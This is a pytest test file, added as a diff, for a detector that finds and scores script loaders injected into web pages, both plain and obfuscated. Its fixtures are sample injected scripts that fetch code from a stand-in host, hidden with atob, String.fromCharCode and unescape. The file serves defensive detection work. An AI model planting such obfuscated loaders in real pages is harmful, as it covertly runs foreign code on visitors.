@@ -1,0 +1,91 @@
+"""Inline loads: addresses inline scripts load from, written plainly or hidden, found and scored."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from selectolax.lexbor import LexborHTMLParser
+
+from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
+from tamperwatch.detect.inline_loads import inline_loads
+
+from .synthetic import news_page, page
+
+EVIL = "https://stats.example-analytics.net/t.js"
+CODES = ",".join(str(ord(c)) for c in EVIL)
+B64 = base64.b64encode(EVIL.encode()).decode()
+ESCAPED = "".join(f"%{ord(c):02x}" for c in EVIL)
+
+
+def loads(script: str) -> list[tuple[str, bool]]:
+    return inline_loads(LexborHTMLParser(f"<html><body>{script}</body></html>"))
+
+
+@pytest.mark.parametrize(
+    ("script", "obfuscated"),
+    [
+        (
+            f'<script>var s=document.createElement("script");s.src="{EVIL}";document.body.append(s)</script>',
+            False,
+        ),
+        (f"<script>s.setAttribute('src', '{EVIL}')</script>", False),
+        (f"<script>document.write('<script src=\\\"{EVIL}\\\"><\\/script>')</script>", False),
+        (f'<script>var u=atob("{B64}");var s=document.createElement("script");s.src=u;</script>', True),
+        (f"<script>var u=String.fromCharCode({CODES});</script>", True),
+        (f"<script>document.write(unescape('{ESCAPED}'))</script>", True),
+    ],
+)
+def test_the_address_an_inline_script_loads_from_is_found(script: str, obfuscated: bool) -> None:
+    assert (EVIL, obfuscated) in loads(script)
+
+
+def test_data_and_external_scripts_are_not_read_as_inline_code() -> None:
+    assert loads(f'<script type="application/ld+json">{{"x": "src=\\"{EVIL}\\""}}</script>') == []
+    assert loads(f'<script src="/a.js">s.src="{EVIL}"</script>') == []
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.text(alphabet="atob(fromCharCode)unescape%src=\"'`/:.,0123456789aZ+ ", max_size=300))
+def test_any_inline_code_is_read_without_raising(code: str) -> None:
+    assert isinstance(loads(f"<script>{code}</script>"), list)
+
+
+def _trusted(det: ForeignInjectionDetector) -> dict[str, object]:
+    part: dict[str, object] = {}
+    for day in range(3):
+        det.learn_trusted(part, page(news_page(day)))
+    return part
+
+
+def test_an_obfuscated_loader_from_an_unseen_origin_is_content_evidence_with_a_reason() -> None:
+    det = ForeignInjectionDetector()
+    script = f'<script>var s=document.createElement("script");s.src=atob("{B64}");</script>'
+    [finding] = det.detect(_trusted(det), page(news_page(9, body_extra=script)))
+    assert finding.content and finding.score >= 0.5
+    assert "address it hides (encoded), unseen origin example-analytics.net" in finding.reason
+
+
+def test_a_plain_inline_loader_is_weaker_evidence_than_the_same_script_tag() -> None:
+    """Ad and consent loaders rotate vendors from inline code: a plain one alone stays below the
+    suspicious threshold (it only adds to decisive evidence); the bare tag for the same address
+    is content evidence."""
+    det = ForeignInjectionDetector()
+    part = _trusted(det)
+    inline = f'<script>var s=document.createElement("script");s.src="{EVIL}";</script>'
+    tag = f'<script src="{EVIL}"></script>'
+    [by_inline] = det.detect(part, page(news_page(9, body_extra=inline)))
+    [by_tag] = det.detect(part, page(news_page(9, body_extra=tag)))
+    assert 0.15 <= by_inline.score < 0.3 and by_tag.score >= 0.5
+    assert by_inline.reason == "inline script loading from unseen origin example-analytics.net"
+
+
+def test_an_inline_loader_seen_in_the_trusted_captures_raises_nothing() -> None:
+    det = ForeignInjectionDetector()
+    script = f'<script>var s=document.createElement("script");s.src=atob("{B64}");</script>'
+    part: dict[str, object] = {}
+    for day in range(3):
+        det.learn_trusted(part, page(news_page(day, body_extra=script)))
+    assert det.detect(part, page(news_page(9, body_extra=script))) == []
